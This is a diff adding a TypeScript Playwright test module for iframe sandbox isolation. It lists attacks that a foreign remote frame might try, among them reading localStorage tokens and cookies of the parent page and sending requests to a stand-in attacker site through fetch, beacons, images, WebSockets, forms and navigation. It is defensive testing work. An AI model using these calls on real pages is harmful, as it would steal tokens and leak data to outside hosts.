@@ -1,0 +1,163 @@
+/**
+ * Attacks of a foreign remote on the page around its frame and on the network. Each one runs in the frame of the remote,
+ * where it must reach nothing, and in a frame without protection, where it must reach its goal.
+ */
+
+import type { Dialog, Frame } from '@playwright/test';
+
+import type { OtherSite } from './foreign-site.ts';
+
+/** What an attack may know: the other site of the attacker, a mark for its requests, and the script of another remote. */
+interface AttackTools {
+  readonly evil: string;
+  readonly mark: string;
+  readonly otherScript: string;
+}
+
+interface Attack {
+  readonly name: string;
+  /** Runs in the frame. Returns true when it reached its goal, unless `seenAs` tells that. */
+  readonly run: (tools: AttackTools) => unknown;
+  /** `request`: the attack reaches its goal when the other site gets its request. `dialog`: when a dialog opens. */
+  readonly seenAs?: 'request' | 'dialog';
+  /** The frame or the page can be gone after the attack. */
+  readonly leaves?: true;
+  /** A remote on its own host may do it, because the origin has only its own data. */
+  readonly isOwnData?: true;
+}
+
+export const ATTACKS: readonly Attack[] = [
+  { name: 'reads the token in localStorage', run: () => localStorage.getItem('token') === 'secret' },
+  { name: 'reads the token in localStorage of the page', run: () => parent.localStorage.getItem('token') === 'secret' },
+  { name: 'reads the cookies', run: () => document.cookie.includes('seen=1') },
+  { name: 'reads the cookies of the page', run: () => parent.document.cookie.includes('seen=1') },
+  { name: 'reads the text of the page', run: () => parent.document.body.textContent.length > 0 },
+  { name: 'writes into the page', run: () => parent.document.body.append('attack') === undefined },
+  { name: 'reads the address of the page', run: () => parent.location.href.length > 0 },
+  { name: 'reads globals of the page', run: () => 'fetch' in parent },
+  { name: 'calls a function of the page', run: () => parent.document.createElement('p').tagName === 'P' },
+  { name: 'finds its own element in the page', run: () => frameElement !== null },
+  {
+    name: 'registers a service worker',
+    run: () => navigator.serviceWorker.register('/worker.js').then(() => true),
+  },
+  {
+    name: 'starts a worker',
+    run: () =>
+      new Promise((resolve, reject) => {
+        const code = 'postMessage(1)';
+        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
+        worker.onmessage = () => resolve(true);
+        worker.onerror = reject;
+      }),
+  },
+  {
+    name: 'reads the database of the origin',
+    run: () => caches.keys().then(() => indexedDB.open('x').readyState === 'pending'),
+    isOwnData: true,
+  },
+  {
+    name: 'loads the script of another remote',
+    run: ({ otherScript }) =>
+      new Promise((resolve, reject) => {
+        const script = Object.assign(document.createElement('script'), { src: otherScript });
+        script.onload = () => resolve(true);
+        script.onerror = reject;
+        document.body.append(script);
+      }),
+  },
+  { name: 'imports the script of another remote', run: ({ otherScript }) => import(otherScript).then(() => true) },
+  { name: 'calls the API directly', run: () => fetch('/api/v1').then(() => true) },
+  { name: 'opens a dialog', run: () => alert('attack'), seenAs: 'dialog' },
+  { name: 'fetches from another site', run: ({ evil, mark }) => fetch(`${evil}/${mark}`), seenAs: 'request' },
+  {
+    name: 'sends a beacon to another site',
+    run: ({ evil, mark }) => navigator.sendBeacon(`${evil}/${mark}`),
+    seenAs: 'request',
+  },
+  {
+    name: 'loads an image of another site',
+    run: ({ evil, mark }) => void (new Image().src = `${evil}/${mark}`),
+    seenAs: 'request',
+  },
+  {
+    name: 'opens a web socket to another site',
+    run: ({ evil, mark }) => new WebSocket(`${evil.replace('http', 'ws')}/${mark}`).readyState,
+    seenAs: 'request',
+  },
+  {
+    name: 'shows another site in a frame',
+    run: ({ evil, mark }) => {
+      const frame = Object.assign(document.createElement('iframe'), { src: `${evil}/${mark}` });
+      document.body.append(frame);
+    },
+    seenAs: 'request',
+  },
+  {
+    name: 'loads a style sheet of another site',
+    run: ({ evil, mark }) => {
+      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/${mark}` });
+      document.head.append(link);
+    },
+    seenAs: 'request',
+  },
+  {
+    name: 'opens a window',
+    run: ({ evil, mark }) => open(`${evil}/${mark}`) !== null,
+    seenAs: 'request',
+    leaves: true,
+  },
+  {
+    name: 'sends a form to another site',
+    run: ({ evil, mark }) => {
+      const form = Object.assign(document.createElement('form'), { action: `${evil}/${mark}`, method: 'post' });
+      document.body.append(form);
+      form.submit();
+    },
+    seenAs: 'request',
+    leaves: true,
+  },
+  {
+    name: 'navigates its frame to another site',
+    run: ({ evil, mark }) => void (location.href = `${evil}/${mark}`),
+    seenAs: 'request',
+    leaves: true,
+  },
+  {
+    name: 'navigates the page to another site',
+    run: ({ evil, mark }) => void (top!.location.href = `${evil}/${mark}`),
+    seenAs: 'request',
+    leaves: true,
+  },
+  {
+    name: 'navigates the page by a link',
+    run: ({ evil, mark }) => {
+      const link = Object.assign(document.createElement('a'), { href: `${evil}/${mark}`, target: '_top' });
+      document.body.append(link);
+      link.click();
+    },
+    seenAs: 'request',
+    leaves: true,
+  },
+];
+
+/** Runs an attack in a frame, and tells whether it reached its goal. */
+export async function isReached(
+  frame: Frame,
+  { run, seenAs }: Attack,
+  { evil, mark, otherScript }: { readonly evil: OtherSite; readonly mark: string; readonly otherScript: string },
+): Promise<boolean> {
+  let hasDialog = false;
+  const note = (dialog: Dialog) => {
+    hasDialog = true;
+    void dialog.dismiss();
+  };
+  const page = frame.page();
+  page.on('dialog', note);
+  const result = await frame
+    .evaluate(run, { evil: evil.url, mark, otherScript })
+    .catch((error: unknown) => String(error));
+  page.off('dialog', note);
+  if (seenAs === 'dialog') return hasDialog;
+  return seenAs === 'request' ? evil.hits.has(`/${mark}`) : result === true;
+}
